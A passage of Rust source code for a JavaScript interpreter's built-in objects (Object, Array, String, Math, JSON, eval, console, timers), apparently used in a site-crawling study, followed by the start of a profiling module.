    });

    method(interp, ctor, "create", |it, _this, args| {
        let proto = arg(args, 0).as_obj();
        let obj = it.heap.alloc(crate::object::JsObject::plain(proto));
        Ok(Value::Obj(obj))
    });

    // `Object.defineProperty(obj, key, { value | get/set, enumerable, writable })`
    method(interp, ctor, "defineProperty", |it, _this, args| {
        let Some(id) = arg(args, 0).as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "not an object"));
        };
        let key = it.to_string_value(&arg(args, 1))?;
        let Some(desc) = arg(args, 2).as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "descriptor must be an object"));
        };
        let getter = it.get_prop(&Value::Obj(desc), "get")?.as_obj();
        let setter = it.get_prop(&Value::Obj(desc), "set")?.as_obj();
        let enumerable = it.get_prop(&Value::Obj(desc), "enumerable")?.truthy();
        let writable = it.get_prop(&Value::Obj(desc), "writable")?.truthy();
        let slot = if getter.is_some() || setter.is_some() {
            Slot::Accessor { get: getter, set: setter }
        } else {
            Slot::Data(it.get_prop(&Value::Obj(desc), "value")?)
        };
        it.heap
            .get_mut(id)
            .props
            .insert(Arc::from(&*key), Property { slot, enumerable, writable });
        Ok(arg(args, 0))
    });

    method(interp, ctor, "getOwnPropertyDescriptor", |it, _this, args| {
        let Some(id) = arg(args, 0).as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "not an object"));
        };
        let key = it.to_string_value(&arg(args, 1))?;
        let Some(prop) = it.heap.get(id).props.get(&key).cloned() else {
            return Ok(Value::Undefined);
        };
        let out = it.alloc_object();
        let enumerable = prop.enumerable;
        let writable = prop.writable;
        match prop.slot {
            Slot::Data(v) => {
                it.heap.get_mut(out).props.insert(Arc::from("value"), Property::data(v));
                it.heap
                    .get_mut(out)
                    .props
                    .insert(Arc::from("writable"), Property::data(Value::Bool(writable)));
            }
            Slot::Accessor { get, set } => {
                let g = get.map(Value::Obj).unwrap_or(Value::Undefined);
                let s = set.map(Value::Obj).unwrap_or(Value::Undefined);
                it.heap.get_mut(out).props.insert(Arc::from("get"), Property::data(g));
                it.heap.get_mut(out).props.insert(Arc::from("set"), Property::data(s));
            }
        }
        it.heap
            .get_mut(out)
            .props
            .insert(Arc::from("enumerable"), Property::data(Value::Bool(enumerable)));
        Ok(Value::Obj(out))
    });

    method(interp, ctor, "assign", |it, _this, args| {
        let Some(dst) = arg(args, 0).as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "target must be an object"));
        };
        for src in args.iter().skip(1) {
            let Some(sid) = src.as_obj() else { continue };
            let pairs: Vec<(Arc<str>, Value)> = it
                .heap
                .get(sid)
                .props
                .iter()
                .filter(|(_, p)| p.enumerable)
                .filter_map(|(k, p)| match &p.slot {
                    Slot::Data(v) => Some((k.clone(), v.clone())),
                    Slot::Accessor { .. } => None,
                })
                .collect();
            for (k, v) in pairs {
                it.heap.get_mut(dst).props.insert(k, Property::data(v));
            }
        }
        Ok(arg(args, 0))
    });

    // freeze/isFrozen: recorded but not enforced (corpus only probes them).
    method(interp, ctor, "freeze", |_it, _this, args| Ok(arg(args, 0)));

    interp.define_global(Arc::from("Object"), Value::Obj(ctor));
}

fn install_object_proto(interp: &mut Interp) {
    let proto = interp.intrinsics.object_proto;
    method(interp, proto, "hasOwnProperty", |it, this, args| {
        let key = it.to_string_value(&arg(args, 0))?;
        let Some(id) = this.as_obj() else { return Ok(Value::Bool(false)) };
        let obj = it.heap.get(id);
        if obj.props.contains(&key) {
            return Ok(Value::Bool(true));
        }
        if let Some(elems) = &obj.elements {
            if let Ok(i) = key.parse::<usize>() {
                return Ok(Value::Bool(i < elems.len()));
            }
        }
        Ok(Value::Bool(false))
    });
    method(interp, proto, "toString", |it, this, _args| {
        let class = match this.as_obj() {
            Some(id) => it.heap.get(id).class.clone(),
            None => Arc::from("Object"),
        };
        Ok(Value::str(format!("[object {class}]")))
    });
    method(interp, proto, "valueOf", |_it, this, _args| Ok(this));
    method(interp, proto, "isPrototypeOf", |it, this, args| {
        let Some(target) = arg(args, 0).as_obj() else { return Ok(Value::Bool(false)) };
        let Some(me) = this.as_obj() else { return Ok(Value::Bool(false)) };
        let mut cur = it.heap.get(target).proto;
        while let Some(p) = cur {
            if p == me {
                return Ok(Value::Bool(true));
            }
            cur = it.heap.get(p).proto;
        }
        Ok(Value::Bool(false))
    });
    method(interp, proto, "propertyIsEnumerable", |it, this, args| {
        let key = it.to_string_value(&arg(args, 0))?;
        let Some(id) = this.as_obj() else { return Ok(Value::Bool(false)) };
        Ok(Value::Bool(
            it.heap.get(id).props.get(&key).map(|p| p.enumerable).unwrap_or(false),
        ))
    });
    // Legacy getter introspection — used by Goßen-style tamper checks.
    method(interp, proto, "__lookupGetter__", |it, this, args| {
        let key = it.to_string_value(&arg(args, 0))?;
        let Some(start) = this.as_obj() else { return Ok(Value::Undefined) };
        let mut cur = Some(start);
        while let Some(id) = cur {
            let obj = it.heap.get(id);
            if let Some(p) = obj.props.get(&key) {
                if let Slot::Accessor { get: Some(g), .. } = p.slot {
                    return Ok(Value::Obj(g));
                }
                return Ok(Value::Undefined);
            }
            cur = obj.proto;
        }
        Ok(Value::Undefined)
    });
}

// ---------------------------------------------------------------- Function

fn install_function_proto(interp: &mut Interp) {
    let proto = interp.intrinsics.function_proto;
    // `Function.prototype.toString`: verbatim source for script functions,
    // `[native code]` body for natives. This is the paper's Listing 1.
    method(interp, proto, "toString", |it, this, _args| {
        let Some(id) = this.as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "not a function"));
        };
        match &it.heap.get(id).call {
            Some(Callable::Script { def, .. }) => Ok(Value::Str(def.source.clone())),
            Some(Callable::Native { name, .. }) => {
                Ok(Value::str(format!("function {name}() {{\n    [native code]\n}}")))
            }
            None => Err(it.throw_error(ErrorKind::Type, "not a function")),
        }
    });
    method(interp, proto, "call", |it, this, args| {
        let new_this = arg(args, 0);
        let rest: Vec<Value> = args.iter().skip(1).cloned().collect();
        it.call(this, new_this, &rest)
    });
    method(interp, proto, "apply", |it, this, args| {
        let new_this = arg(args, 0);
        let rest: Vec<Value> = match arg(args, 1) {
            Value::Obj(id) => it.heap.get(id).elements.clone().unwrap_or_default(),
            _ => Vec::new(),
        };
        it.call(this, new_this, &rest)
    });
    method(interp, proto, "bind", |it, this, args| {
        let bound_this = arg(args, 0);
        let bound_args: Vec<Value> = args.iter().skip(1).cloned().collect();
        let target = this.clone();
        let name = match this.as_obj() {
            Some(id) => match &it.heap.get(id).call {
                Some(Callable::Native { name, .. }) => format!("bound {name}"),
                Some(Callable::Script { def, .. }) => format!("bound {}", def.name),
                None => "bound".to_owned(),
            },
            None => "bound".to_owned(),
        };
        let f = it.alloc_native_fn(&name, move |it2, _this2, call_args| {
            let mut all = bound_args.clone();
            all.extend_from_slice(call_args);
            it2.call(target.clone(), bound_this.clone(), &all)
        });
        Ok(Value::Obj(f))
    });
}

// ------------------------------------------------------------------- Array

fn install_array(interp: &mut Interp) {
    let proto = interp.intrinsics.array_proto;
    let ctor = interp.alloc_native_fn("Array", |it, _this, args| {
        if args.len() == 1 {
            if let Value::Num(n) = args[0] {
                return Ok(Value::Obj(
                    it.alloc_array(vec![Value::Undefined; n.max(0.0) as usize]),
                ));
            }
        }
        Ok(Value::Obj(it.alloc_array(args.to_vec())))
    });
    interp
        .heap
        .get_mut(ctor)
        .props
        .insert(Arc::from("prototype"), Property::data_hidden(Value::Obj(proto)));
    method(interp, ctor, "isArray", |it, _this, args| {
        Ok(Value::Bool(
            arg(args, 0).as_obj().map(|id| it.heap.get(id).is_array()).unwrap_or(false),
        ))
    });
    interp.define_global(Arc::from("Array"), Value::Obj(ctor));

    fn with_elems<R>(
        it: &mut Interp,
        this: &Value,
        f: impl FnOnce(&mut Vec<Value>) -> R,
    ) -> Result<R, crate::error::Thrown> {
        let Some(id) = this.as_obj() else {
            return Err(it.throw_error(ErrorKind::Type, "not an array"));
        };
        let Some(elems) = &mut it.heap.get_mut(id).elements else {
            return Err(it.throw_error(ErrorKind::Type, "not an array"));
        };
        Ok(f(elems))
    }

    method(interp, proto, "push", |it, this, args| {
        with_elems(it, &this, |e| {
            e.extend_from_slice(args);
            Value::Num(e.len() as f64)
        })
    });
    method(interp, proto, "pop", |it, this, _args| {
        with_elems(it, &this, |e| e.pop().unwrap_or(Value::Undefined))
    });
    method(interp, proto, "shift", |it, this, _args| {
        with_elems(it, &this, |e| {
            if e.is_empty() {
                Value::Undefined
            } else {
                e.remove(0)
            }
        })
    });
    method(interp, proto, "indexOf", |it, this, args| {
        let needle = arg(args, 0);
        with_elems(it, &this, |e| {
            Value::Num(
                e.iter().position(|v| v.strict_eq(&needle)).map(|i| i as f64).unwrap_or(-1.0),
            )
        })
    });
    method(interp, proto, "includes", |it, this, args| {
        let needle = arg(args, 0);
        with_elems(it, &this, |e| Value::Bool(e.iter().any(|v| v.strict_eq(&needle))))
    });
    method(interp, proto, "join", |it, this, args| {
        let sep = match arg(args, 0) {
            Value::Undefined => Arc::from(","),
            other => it.to_string_value(&other)?,
        };
        let items = with_elems(it, &this, |e| e.clone())?;
        let mut parts = Vec::with_capacity(items.len());
        for v in &items {
            if v.is_nullish() {
                parts.push(String::new());
            } else {
                parts.push(it.to_string_value(v)?.to_string());
            }
        }
        Ok(Value::str(parts.join(&sep)))
    });
    method(interp, proto, "slice", |it, this, args| {
        let items = with_elems(it, &this, |e| e.clone())?;
        let len = items.len() as i64;
        let norm = |v: Value, default: i64| -> i64 {
            match v {
                Value::Undefined => default,
                other => {
                    let n = other.to_number() as i64;
                    if n < 0 {
                        (len + n).max(0)
                    } else {
                        n.min(len)
                    }
                }
            }
        };
        let start = norm(arg(args, 0), 0) as usize;
        let end = norm(arg(args, 1), len) as usize;
        let out = if start < end { items[start..end].to_vec() } else { Vec::new() };
        Ok(Value::Obj(it.alloc_array(out)))
    });
    method(interp, proto, "concat", |it, this, args| {
        let mut items = with_elems(it, &this, |e| e.clone())?;
        for a in args {
            match a.as_obj().map(|id| it.heap.get(id).elements.clone()) {
                Some(Some(more)) => items.extend(more),
                _ => items.push(a.clone()),
            }
        }
        Ok(Value::Obj(it.alloc_array(items)))
    });
    method(interp, proto, "forEach", |it, this, args| {
        let cb = arg(args, 0);
        let items = with_elems(it, &this, |e| e.clone())?;
        for (i, item) in items.into_iter().enumerate() {
            it.call(cb.clone(), Value::Undefined, &[item, Value::Num(i as f64), this.clone()])?;
        }
        Ok(Value::Undefined)
    });
    method(interp, proto, "map", |it, this, args| {
        let cb = arg(args, 0);
        let items = with_elems(it, &this, |e| e.clone())?;
        let mut out = Vec::with_capacity(items.len());
        for (i, item) in items.into_iter().enumerate() {
            out.push(it.call(cb.clone(), Value::Undefined, &[item, Value::Num(i as f64)])?);
        }
        Ok(Value::Obj(it.alloc_array(out)))
    });
    method(interp, proto, "filter", |it, this, args| {
        let cb = arg(args, 0);
        let items = with_elems(it, &this, |e| e.clone())?;
        let mut out = Vec::new();
        for (i, item) in items.into_iter().enumerate() {
            if it
                .call(cb.clone(), Value::Undefined, &[item.clone(), Value::Num(i as f64)])?
                .truthy()
            {
                out.push(item);
            }
        }
        Ok(Value::Obj(it.alloc_array(out)))
    });
    method(interp, proto, "some", |it, this, args| {
        let cb = arg(args, 0);
        let items = with_elems(it, &this, |e| e.clone())?;
        for (i, item) in items.into_iter().enumerate() {
            if it.call(cb.clone(), Value::Undefined, &[item, Value::Num(i as f64)])?.truthy() {
                return Ok(Value::Bool(true));
            }
        }
        Ok(Value::Bool(false))
    });
    method(interp, proto, "sort", |it, this, _args| {
        // String sort only (sufficient for the corpus: sorting property
        // name lists in template attacks).
        let mut items = with_elems(it, &this, |e| e.clone())?;
        let mut keyed: Vec<(Arc<str>, Value)> = Vec::with_capacity(items.len());
        for v in items.drain(..) {
            let k = it.to_string_value(&v)?;
            keyed.push((k, v));
        }
        keyed.sort_by(|a, b| a.0.cmp(&b.0));
        let sorted: Vec<Value> = keyed.into_iter().map(|(_, v)| v).collect();
        with_elems(it, &this, |e| *e = sorted)?;
        Ok(this)
    });
}

// ------------------------------------------------------------------ String

fn install_string_proto(interp: &mut Interp) {
    let proto = interp.intrinsics.string_proto;

    fn this_str(it: &mut Interp, this: &Value) -> Result<Arc<str>, crate::error::Thrown> {
        it.to_string_value(this)
    }

    method(interp, proto, "indexOf", |it, this, args| {
        let s = this_str(it, &this)?;
        let needle = it.to_string_value(&arg(args, 0))?;
        Ok(Value::Num(match s.find(&*needle) {
            Some(byte) => s[..byte].chars().count() as f64,
            None => -1.0,
        }))
    });
    method(interp, proto, "lastIndexOf", |it, this, args| {
        let s = this_str(it, &this)?;
        let needle = it.to_string_value(&arg(args, 0))?;
        Ok(Value::Num(match s.rfind(&*needle) {
            Some(byte) => s[..byte].chars().count() as f64,
            None => -1.0,
        }))
    });
    method(interp, proto, "includes", |it, this, args| {
        let s = this_str(it, &this)?;
        let needle = it.to_string_value(&arg(args, 0))?;
        Ok(Value::Bool(s.contains(&*needle)))
    });
    method(interp, proto, "startsWith", |it, this, args| {
        let s = this_str(it, &this)?;
        let needle = it.to_string_value(&arg(args, 0))?;
        Ok(Value::Bool(s.starts_with(&*needle)))
    });
    method(interp, proto, "endsWith", |it, this, args| {
        let s = this_str(it, &this)?;
        let needle = it.to_string_value(&arg(args, 0))?;
        Ok(Value::Bool(s.ends_with(&*needle)))
    });
    method(interp, proto, "toLowerCase", |it, this, _args| {
        let s = this_str(it, &this)?;
        Ok(Value::str(s.to_lowercase()))
    });
    method(interp, proto, "toUpperCase", |it, this, _args| {
        let s = this_str(it, &this)?;
        Ok(Value::str(s.to_uppercase()))
    });
    method(interp, proto, "trim", |it, this, _args| {
        let s = this_str(it, &this)?;
        Ok(Value::str(s.trim()))
    });
    method(interp, proto, "charAt", |it, this, args| {
        let s = this_str(it, &this)?;
        let i = arg(args, 0).to_number().max(0.0) as usize;
        Ok(Value::str(s.chars().nth(i).map(|c| c.to_string()).unwrap_or_default()))
    });
    method(interp, proto, "charCodeAt", |it, this, args| {
        let s = this_str(it, &this)?;
        let i = arg(args, 0).to_number().max(0.0) as usize;
        Ok(match s.chars().nth(i) {
            Some(c) => Value::Num(c as u32 as f64),
            None => Value::Num(f64::NAN),
        })
    });
    method(interp, proto, "slice", |it, this, args| {
        let s = this_str(it, &this)?;
        let chars: Vec<char> = s.chars().collect();
        let len = chars.len() as i64;
        let norm = |v: Value, default: i64| -> i64 {
            match v {
                Value::Undefined => default,
                other => {
                    let n = other.to_number() as i64;
                    if n < 0 {
                        (len + n).max(0)
                    } else {
                        n.min(len)
                    }
                }
            }
        };
        let start = norm(arg(args, 0), 0) as usize;
        let end = norm(arg(args, 1), len) as usize;
        let out: String = if start < end { chars[start..end].iter().collect() } else { String::new() };
        Ok(Value::str(out))
    });
    method(interp, proto, "substring", |it, this, args| {
        let s = this_str(it, &this)?;
        let chars: Vec<char> = s.chars().collect();
        let len = chars.len() as f64;
        let a = arg(args, 0).to_number().clamp(0.0, len) as usize;
        let b = match arg(args, 1) {
            Value::Undefined => chars.len(),
            v => v.to_number().clamp(0.0, len) as usize,
        };
        let (lo, hi) = if a <= b { (a, b) } else { (b, a) };
        Ok(Value::str(chars[lo..hi].iter().collect::<String>()))
    });
    method(interp, proto, "split", |it, this, args| {
        let s = this_str(it, &this)?;
        let out: Vec<Value> = match arg(args, 0) {
            Value::Undefined => vec![Value::Str(s)],
            sep => {
                let sep = it.to_string_value(&sep)?;
                if sep.is_empty() {
                    s.chars().map(|c| Value::str(c.to_string())).collect()
                } else {
                    s.split(&*sep).map(Value::str).collect()
                }
            }
        };
        Ok(Value::Obj(it.alloc_array(out)))
    });
    // `replace` with string pattern, first occurrence (no regex).
    method(interp, proto, "replace", |it, this, args| {
        let s = this_str(it, &this)?;
        let pat = it.to_string_value(&arg(args, 0))?;
        let rep = it.to_string_value(&arg(args, 1))?;
        Ok(Value::str(s.replacen(&*pat, &rep, 1)))
    });
    method(interp, proto, "repeat", |it, this, args| {
        let s = this_str(it, &this)?;
        let n = arg(args, 0).to_number().max(0.0) as usize;
        if n > 10_000 {
            return Err(it.throw_error(ErrorKind::Range, "repeat count too large"));
        }
        Ok(Value::str(s.repeat(n)))
    });
    method(interp, proto, "concat", |it, this, args| {
        let mut s = this_str(it, &this)?.to_string();
        for a in args {
            s.push_str(&it.to_string_value(a)?);
        }
        Ok(Value::str(s))
    });
    method(interp, proto, "toString", |it, this, _args| {
        Ok(Value::Str(this_str(it, &this)?))
    });

    let ctor = interp.alloc_native_fn("String", |it, _this, args| {
        Ok(match args.first() {
            None => Value::str(""),
            Some(v) => Value::Str(it.to_string_value(v)?),
        })
    });
    method(interp, ctor, "fromCharCode", |_it, _this, args| {
        let s: String = args
            .iter()
            .map(|v| char::from_u32(v.to_number() as u32).unwrap_or('\u{FFFD}'))
            .collect();
        Ok(Value::str(s))
    });
    interp
        .heap
        .get_mut(ctor)
        .props
        .insert(Arc::from("prototype"), Property::data_hidden(Value::Obj(proto)));
    interp.define_global(Arc::from("String"), Value::Obj(ctor));
}

// ------------------------------------------------------------------ Number

fn install_number_proto(interp: &mut Interp) {
    let proto = interp.intrinsics.number_proto;
    method(interp, proto, "toString", |it, this, args| {
        let n = it.to_number_value(&this)?;
        match arg(args, 0) {
            Value::Undefined => Ok(Value::str(number_to_string(n))),
            radix => {
                let r = radix.to_number() as u32;
                if !(2..=36).contains(&r) {
                    return Err(it.throw_error(ErrorKind::Range, "radix must be 2..36"));
                }
                Ok(Value::str(format_radix(n as i64, r)))
            }
        }
    });
    method(interp, proto, "toFixed", |it, this, args| {
        let n = it.to_number_value(&this)?;
        let digits = arg(args, 0).to_number().max(0.0) as usize;
        Ok(Value::str(format!("{n:.digits$}")))
    });
    let ctor = interp.alloc_native_fn("Number", |_it, _this, args| {
        Ok(Value::Num(arg(args, 0).to_number()))
    });
    method(interp, ctor, "isInteger", |_it, _this, args| {
        Ok(Value::Bool(matches!(arg(args, 0), Value::Num(n) if n == n.trunc() && n.is_finite())))
    });
    interp
        .heap
        .get_mut(ctor)
        .props
        .insert(Arc::from("prototype"), Property::data_hidden(Value::Obj(proto)));
    interp.define_global(Arc::from("Number"), Value::Obj(ctor));

    let bool_ctor = interp.alloc_native_fn("Boolean", |_it, _this, args| {
        Ok(Value::Bool(arg(args, 0).truthy()))
    });
    interp.define_global(Arc::from("Boolean"), Value::Obj(bool_ctor));
}

fn format_radix(mut n: i64, radix: u32) -> String {
    if n == 0 {
        return "0".to_owned();
    }
    let neg = n < 0;
    n = n.abs();
    let digits = b"0123456789abcdefghijklmnopqrstuvwxyz";
    let mut out = Vec::new();
    while n > 0 {
        out.push(digits[(n % radix as i64) as usize]);
        n /= radix as i64;
    }
    if neg {
        out.push(b'-');
    }
    out.reverse();
    String::from_utf8(out).unwrap()
}

// ------------------------------------------------------------------ Errors

fn install_errors(interp: &mut Interp) {
    let cases: Vec<(&str, ObjId, ErrorKind)> = vec![
        ("Error", interp.intrinsics.error_proto, ErrorKind::Error),
        ("TypeError", interp.intrinsics.type_error_proto, ErrorKind::Type),
        ("ReferenceError", interp.intrinsics.reference_error_proto, ErrorKind::Reference),
        ("RangeError", interp.intrinsics.range_error_proto, ErrorKind::Range),
    ];
    for (name, proto, kind) in cases {
        interp
            .heap
            .get_mut(proto)
            .props
            .insert(Arc::from("name"), Property::data_hidden(Value::str(name)));
        interp
            .heap
            .get_mut(proto)
            .props
            .insert(Arc::from("message"), Property::data_hidden(Value::str("")));
        let ctor = interp.alloc_native_fn(name, move |it, _this, args| {
            let msg = match args.first() {
                Some(Value::Undefined) | None => Arc::from(""),
                Some(v) => it.to_string_value(v)?,
            };
            Ok(Value::Obj(it.alloc_error(kind, &msg)))
        });
        interp
            .heap
            .get_mut(ctor)
            .props
            .insert(Arc::from("prototype"), Property::data_hidden(Value::Obj(proto)));
        interp
            .heap
            .get_mut(proto)
            .props
            .insert(Arc::from("constructor"), Property::data_hidden(Value::Obj(ctor)));
        interp.define_global(Arc::from(name), Value::Obj(ctor));
    }
    let error_proto = interp.intrinsics.error_proto;
    method(interp, error_proto, "toString", |it, this, _args| {
        let name = it.get_prop(&this, "name")?;
        let msg = it.get_prop(&this, "message")?;
        let name = it.to_string_value(&name)?;
        let msg = it.to_string_value(&msg)?;
        Ok(Value::str(if msg.is_empty() {
            name.to_string()
        } else {
            format!("{name}: {msg}")
        }))
    });
}

// -------------------------------------------------------------------- Math

fn install_math(interp: &mut Interp) {
    let math = interp.alloc_object_with_class("Math");
    method(interp, math, "floor", |_it, _this, args| {
        Ok(Value::Num(arg(args, 0).to_number().floor()))
    });
    method(interp, math, "ceil", |_it, _this, args| {
        Ok(Value::Num(arg(args, 0).to_number().ceil()))
    });
    method(interp, math, "round", |_it, _this, args| {
        Ok(Value::Num(arg(args, 0).to_number().round()))
    });
    method(interp, math, "abs", |_it, _this, args| {
        Ok(Value::Num(arg(args, 0).to_number().abs()))
    });
    method(interp, math, "max", |_it, _this, args| {
        Ok(Value::Num(args.iter().map(|v| v.to_number()).fold(f64::NEG_INFINITY, f64::max)))
    });
    method(interp, math, "min", |_it, _this, args| {
        Ok(Value::Num(args.iter().map(|v| v.to_number()).fold(f64::INFINITY, f64::min)))
    });
    method(interp, math, "pow", |_it, _this, args| {
        Ok(Value::Num(arg(args, 0).to_number().powf(arg(args, 1).to_number())))
    });
    method(interp, math, "sqrt", |_it, _this, args| {
        Ok(Value::Num(arg(args, 0).to_number().sqrt()))
    });
    // Deterministic xorshift64* PRNG: reproducible crawls need reproducible
    // `Math.random` (detector scripts use it for event-id generation).
    method(interp, math, "random", |it, _this, _args| {
        let mut x = it.rng_state;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        it.rng_state = x;
        let bits = x.wrapping_mul(0x2545F4914F6CDD1D) >> 11;
        Ok(Value::Num(bits as f64 / (1u64 << 53) as f64))
    });
    interp.define_global(Arc::from("Math"), Value::Obj(math));
}

// -------------------------------------------------------------------- JSON

fn install_json(interp: &mut Interp) {
    let json = interp.alloc_object_with_class("JSON");
    method(interp, json, "stringify", |it, _this, args| {
        let mut out = String::new();
        stringify(it, &arg(args, 0), &mut out, 0)?;
        Ok(Value::str(out))
    });
    interp.define_global(Arc::from("JSON"), Value::Obj(json));
}

fn stringify(
    it: &mut Interp,
    v: &Value,
    out: &mut String,
    depth: usize,
) -> Result<(), crate::error::Thrown> {
    if depth > 32 {
        return Err(it.throw_error(ErrorKind::Type, "cyclic or too-deep structure"));
    }
    match v {
        Value::Undefined => out.push_str("null"),
        Value::Null => out.push_str("null"),
        Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
        Value::Num(n) => out.push_str(&number_to_string(*n)),
        Value::Str(s) => {
            out.push('"');
            for c in s.chars() {
                match c {
                    '"' => out.push_str("\\\""),
                    '\\' => out.push_str("\\\\"),
                    '\n' => out.push_str("\\n"),
                    '\t' => out.push_str("\\t"),
                    '\r' => out.push_str("\\r"),
                    c => out.push(c),
                }
            }
            out.push('"');
        }
        Value::Obj(id) => {
            if let Some(elems) = it.heap.get(*id).elements.clone() {
                out.push('[');
                for (i, e) in elems.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    stringify(it, e, out, depth + 1)?;
                }
                out.push(']');
            } else if it.heap.get(*id).is_callable() {
                out.push_str("null");
            } else {
                out.push('{');
                let pairs: Vec<(Arc<str>, Value)> = it
                    .heap
                    .get(*id)
                    .props
                    .iter()
                    .filter(|(_, p)| p.enumerable)
                    .filter_map(|(k, p)| match &p.slot {
                        Slot::Data(v) => Some((k.clone(), v.clone())),
                        Slot::Accessor { .. } => None,
                    })
                    .collect();
                for (i, (k, v)) in pairs.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    stringify(it, &Value::Str(k.clone()), out, depth + 1)?;
                    out.push(':');
                    stringify(it, v, out, depth + 1)?;
                }
                out.push('}');
            }
        }
    }
    Ok(())
}

// -------------------------------------------------------------------- misc

fn install_misc_globals(interp: &mut Interp) {
    let g = interp.global;
    interp
        .heap
        .get_mut(g)
        .props
        .insert(Arc::from("NaN"), Property::data_hidden(Value::Num(f64::NAN)));
    interp
        .heap
        .get_mut(g)
        .props
        .insert(Arc::from("Infinity"), Property::data_hidden(Value::Num(f64::INFINITY)));
    interp
        .heap
        .get_mut(g)
        .props
        .insert(Arc::from("globalThis"), Property::data_hidden(Value::Obj(g)));

    method(interp, g, "parseInt", |it, _this, args| {
        let s = it.to_string_value(&arg(args, 0))?;
        let radix = match arg(args, 1) {
            Value::Undefined => 10,
            v => v.to_number() as u32,
        };
        let t = s.trim();
        let (neg, t) = match t.strip_prefix('-') {
            Some(rest) => (true, rest),
            None => (false, t.strip_prefix('+').unwrap_or(t)),
        };
        let (radix, t) = if radix == 16 || ((radix == 10 || radix == 0) && (t.starts_with("0x") || t.starts_with("0X"))) {
            (16, t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")).unwrap_or(t))
        } else {
            (if radix == 0 { 10 } else { radix }, t)
        };
        let digits: String =
            t.chars().take_while(|c| c.is_digit(radix.clamp(2, 36))).collect();
        if digits.is_empty() {
            return Ok(Value::Num(f64::NAN));
        }
        let v = i64::from_str_radix(&digits, radix.clamp(2, 36)).unwrap_or(0) as f64;
        Ok(Value::Num(if neg { -v } else { v }))
    });
    method(interp, g, "parseFloat", |it, _this, args| {
        let s = it.to_string_value(&arg(args, 0))?;
        let t = s.trim();
        let end = t
            .char_indices()
            .take_while(|(i, c)| {
                c.is_ascii_digit()
                    || *c == '.'
                    || ((*c == '-' || *c == '+') && *i == 0)
                    || *c == 'e'
                    || *c == 'E'
            })
            .map(|(i, c)| i + c.len_utf8())
            .last()
            .unwrap_or(0);
        Ok(Value::Num(t[..end].parse::<f64>().unwrap_or(f64::NAN)))
    });
    method(interp, g, "isNaN", |it, _this, args| {
        let n = it.to_number_value(&arg(args, 0))?;
        Ok(Value::Bool(n.is_nan()))
    });
    method(interp, g, "isFinite", |it, _this, args| {
        let n = it.to_number_value(&arg(args, 0))?;
        Ok(Value::Bool(n.is_finite()))
    });

    // Global (indirect) eval: runs in global scope. Direct `eval(...)`
    // calls are intercepted by the interpreter as a special form.
    method(interp, g, "eval", |it, _this, args| {
        let scope = it.global_scope();
        it.eval_in_scope(arg(args, 0), &scope)
    });

    // console.log joins arguments with spaces, like browsers do.
    let console = interp.alloc_object_with_class("Console");
    method(interp, console, "log", |it, _this, args| {
        let mut parts = Vec::with_capacity(args.len());
        for a in args {
            parts.push(it.to_string_value(a)?.to_string());
        }
        it.console.push(parts.join(" "));
        Ok(Value::Undefined)
    });
    method(interp, console, "warn", |it, _this, args| {
        let mut parts = Vec::with_capacity(args.len());
        for a in args {
            parts.push(it.to_string_value(a)?.to_string());
        }
        it.console.push(parts.join(" "));
        Ok(Value::Undefined)
    });
    method(interp, console, "error", |it, _this, args| {
        let mut parts = Vec::with_capacity(args.len());
        for a in args {
            parts.push(it.to_string_value(a)?.to_string());
        }
        it.console.push(parts.join(" "));
        Ok(Value::Undefined)
    });
    interp
        .heap
        .get_mut(g)
        .props
        .insert(Arc::from("console"), Property::data_hidden(Value::Obj(console)));

    // setTimeout / clearTimeout backed by the virtual-time job queue. The
    // host drives time with `Interp::advance_time`.
    method(interp, g, "setTimeout", |it, _this, args| {
        let func = arg(args, 0);
        let delay = arg(args, 1).to_number().max(0.0) as u64;
        let rest: Vec<Value> = args.iter().skip(2).cloned().collect();
        let seq = it.push_job(func, rest, delay);
        Ok(Value::Num(seq as f64))
    });
    method(interp, g, "clearTimeout", |_it, _this, _args| Ok(Value::Undefined));
}
