//! Opt-in interpreter profiling.
//!
//! The scan visits ~100K sites through this interpreter, so its hot loop
//! cannot afford unconditional accounting beyond the step budget it already
//! pays. Profiling therefore hangs off `Interp.profiler`, an
//! `Option<Box<dyn Profiler>>` that is `None` unless a host (the browser
//! crate, driven by telemetry knobs) enables it — the disabled cost is a
//! single `if let` branch per hook site.

use std::collections::HashMap;
use std::sync::Arc;

/// Aggregated per-page interpreter counts.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Profile {
    /// Statements executed (same unit as the step budget).
    pub ops: u64,
    /// Function calls dispatched (script and native).
    pub calls: u64,
    /// `eval()` invocations.
    pub evals: u64,
    /// Deepest call-stack depth reached.
    pub max_depth: usize,
    /// Per-builtin native-call counts, sorted by name for determinism.
    pub builtins: Vec<(Arc<str>, u64)>,
}

/// Hooks the interpreter invokes when profiling is enabled. All methods
/// default to no-ops so partial profilers stay small.
pub trait Profiler {
    fn record_step(&mut self) {}
    /// `n` coalesced steps at once (the bytecode VM batches charges for
    /// pure nodes). Equivalent to `n` `record_step` calls; the default
    /// loops so partial profilers only implement one of the two.
    fn record_steps(&mut self, n: u32) {
        for _ in 0..n {
            self.record_step();
        }
    }
    fn record_call(&mut self, _depth: usize) {}
    fn record_eval(&mut self) {}
    /// A native (builtin) function is about to run; `name` is the
    /// interned name the host registered it under.
    fn record_builtin(&mut self, _name: &Arc<str>) {}
    fn report(&self) -> Profile {
        Profile::default()
    }
}

/// The standard profiler: counts ops, calls, evals, peak depth, and
/// per-builtin native dispatches.
#[derive(Debug, Default)]
pub struct CountingProfiler {
    profile: Profile,
    builtins: HashMap<Arc<str>, u64>,
}

impl Profiler for CountingProfiler {
    fn record_step(&mut self) {
        self.profile.ops += 1;
    }

    fn record_steps(&mut self, n: u32) {
        self.profile.ops += n as u64;
    }

    fn record_call(&mut self, depth: usize) {
        self.profile.calls += 1;
        if depth > self.profile.max_depth {
            self.profile.max_depth = depth;
        }
    }

    fn record_eval(&mut self) {
        self.profile.evals += 1;
    }

    fn record_builtin(&mut self, name: &Arc<str>) {
        *self.builtins.entry(Arc::clone(name)).or_insert(0) += 1;
    }

    fn report(&self) -> Profile {
